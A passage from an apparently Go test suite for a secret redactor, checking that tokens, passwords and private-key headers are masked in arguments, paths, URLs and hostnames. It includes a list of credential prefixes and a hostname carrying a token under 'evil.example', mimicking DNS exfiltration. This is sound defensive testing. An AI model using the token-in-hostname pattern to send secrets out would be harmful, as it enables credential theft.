		"token=", "token=/", "key=", "key=/", "token:", "cookie:", "cookie:@", "token: \"", "eyJ_", "eyJ.", "eyJaaaaaaaa.", "SG.", "sk-proj-", "://:x", "x://a:b", "://@", "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB/", "%41", "%2525", "+%20",
		"hunter2hunter2", b64("hunter2hunter2"), "[redacted password 1]", "-----BEGIN PRIVATE KEY", "PRIVATE KEY", "\"", "'a", "\\", ",a=", "a&token=b", "␊", "\u202e", "\xff", "- -p -u ", "4142434445464748494a4b4c4d4e4f50/", nested + " ", "::", "ghp_", ".atlasv1.", "1:AA",
	} {
		for _, in := range []string{"", "--x=", "bash\x00-c\x00"} {
			b := []byte(in + strings.Repeat(unit, (128<<10)/len(unit)))
			began := time.Now()
			texts, _ := r.Argv(b, nil, nil)
			r.Path(b)
			r.URL(b)
			// A tenth of a second is usual on a busy machine; a quadratic scan takes minutes.
			if took := time.Since(began); took > 5*time.Second {
				t.Errorf("%.20q: %v", unit, took)
			} else if took > 100*time.Millisecond {
				t.Logf("%q %.20q: %v", in, unit, took)
			}
			for _, x := range texts {
				if strings.Contains(x.String(), "hunter2hunter2") {
					t.Errorf("%.20q leaks", unit)
				}
			}
		}
	}
}

func TestOptionsInAListOfStringsAreRead(t *testing.T) {
	if got := plain.String(`["CMD", "redis-cli", "-a", "hunter2", "ping"]`).String(); got != `["CMD", "redis-cli", "-a", "[redacted option-value 7]", "ping"]` {
		t.Errorf("%q", got)
	}
}

func TestARedactorServesSeveralGoroutines(t *testing.T) {
	r := New(testKey(1), Options{Masked: []string{"hunter2hunter2"}})
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			secret := rnd(30, alnum, uint64(i))
			want := "--token=[redacted named-secret 30]"
			for range 200 {
				if got, _ := argv(r, "tool", "--token="+secret, "hunter2hunter2", b64(b64("password="+secret))); got[1] != want || leaks(strings.Join(got, " "), secret) {
					t.Errorf("%q", got)
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestASecretInAHostNameIsTold(t *testing.T) {
	token := tokens()["stripe"]
	host, found := plain.FindHost([]byte("x."+token+".evil.example"), nil)
	if !host.Is("x.[redacted stripe-key 32].evil.example") || len(found) != 1 || found[0].Hash != plain.Hash([]byte(token)) {
		t.Errorf("%q %+v", host, found)
	}
	if path, found := plain.FindURL([]byte("/x?sig="+token), nil); path.String() != "/x?sig=[redacted stripe-key 32]" || len(found) != 1 {
		t.Errorf("%q %+v", path, found)
	}
}
